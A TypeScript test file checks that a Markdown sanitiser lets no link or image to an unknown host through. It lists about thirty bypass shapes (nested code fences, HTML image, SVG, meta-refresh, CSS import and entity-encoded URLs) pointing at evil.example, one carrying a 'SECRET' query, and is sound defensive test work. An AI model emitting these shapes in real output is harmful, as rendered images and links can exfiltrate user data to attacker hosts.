import { expect, it } from 'vitest';
import { checkDocuments, leaks, written } from '../suites/fuzz/links/check-documents.ts';
import { propertyRuns } from '../support/properties.ts';

/** Each of these once got an image or a link to an unknown host past a checker with its own Markdown rules. */
const shapes = [
  '> ```\n![x](https://evil.example/p?q=SECRET)',
  '- ```\n\n![x](https://evil.example/p)',
  '1. ```\n   a\n![x](https://evil.example/p)',
  '* ```\n* ![x](https://evil.example/p)',
  'x ```\n![x](https://evil.example/p)\n``` y',
  '\\```\n![x](https://evil.example/p)\n```',
  '\\`[x](https://evil.example/p)`',
  '<a title="`">![x](https://evil.example/p)`',
  '![x][1]\n\n[1]:\nhttps&colon;//evil.example/p',
  'a[^1]\n\n[^1]: https&colon;//evil.example/p',
  '1https://evil.example/p',
  '<img alt="a>b" src="//evil.example/p">',
  `<img alt="${'x'.repeat(600)}" src=//evil.example/p>`,
  '<meta http-equiv=refresh content="0;url=https://evil.example/p">',
  '<svg><image xlink:href="https://evil.example/p"/></svg>',
  '<style>@import "https://evil.example/p";</style>',
  '![x](https://evil.example/p "t"\n)',
  '[![x](//evil.example/p)](/a)',
  '| a |\n|---|\n| `x|![x](https://evil.example/p)` |',
  '`x|![x](https://evil.example/p)`\n|-|-|',
  '| a | b |\n|---|---|\n| `x|![x](https://evil.example/p)` |',
  '[`[<a title="`">](HTTPS://evil.example/p)`](/a)',
  '[a ``b`](https://evil.example/p)`` c](/a)',
  '``a`b`<b>`![x](https://evil.example/p)`',
  '`a`<b>``b`[x](https://evil.example/p)``',
  'x\n:-:\n`a<form action="https://evil.example/p">|`',
  'www.![`://`](/nowhere)',
  'https&#58;//evil.example/p and ht<b>tps://evil.example/p and [https:](/b)//evil.example/p',
  'mail@evil.example, evil.example.com, //evil.example/p, пример.рф and README.md``',
  '```\n    ```\n```~\n![x](https://evil.example/p)\n```\n![x](https://evil.example/p)',
  '- a\n\n  ~~~\n  <img src=https://evil.example/p>\n~~~\n![x](https://evil.example/p)',
  'evil.example.com![[``---]](mail@evil.example)://``](https://ok.example.com/)](https&colon;//evil.example )',
  'evil.example.com\\-a, evil.example.com&#45;a, evil.example.com&#46;-a, mail@evil.example.com\\_a and evil.example.com\\:8x',
];

it.each(shapes)('lets no address out of %j', (shape) => {
  expect(leaks(written([shape]))).toEqual([]);
  expect(leaks(written([...shape]))).toEqual([]);
});

it('lets no reader find an unknown address in the output, nor lose a known one', () => {
  expect(checkDocuments({ first: 0, count: propertyRuns(150), seed: 1 })).toEqual([]);
});
